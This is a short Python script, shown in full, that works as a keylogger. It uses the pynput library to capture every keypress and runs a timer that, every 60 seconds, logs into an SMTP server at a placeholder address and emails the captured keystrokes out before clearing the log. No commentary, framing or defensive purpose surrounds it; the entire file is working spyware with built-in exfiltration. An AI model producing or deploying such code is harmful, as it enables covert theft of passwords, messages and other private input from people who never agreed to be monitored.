import smtplib
import threading
from pynput import keyboard

log = []


def report():
    with smtplib.SMTP("smtp.example.com", 587) as server:
        server.starttls()
        server.login("a@example.com", "x")
        server.sendmail("a@example.com", "a@example.com", "".join(log))
    log.clear()
    threading.Timer(60, report).start()


def pressed(key):
    log.append(str(key))


report()
with keyboard.Listener(on_press=pressed) as listener:
    listener.join()
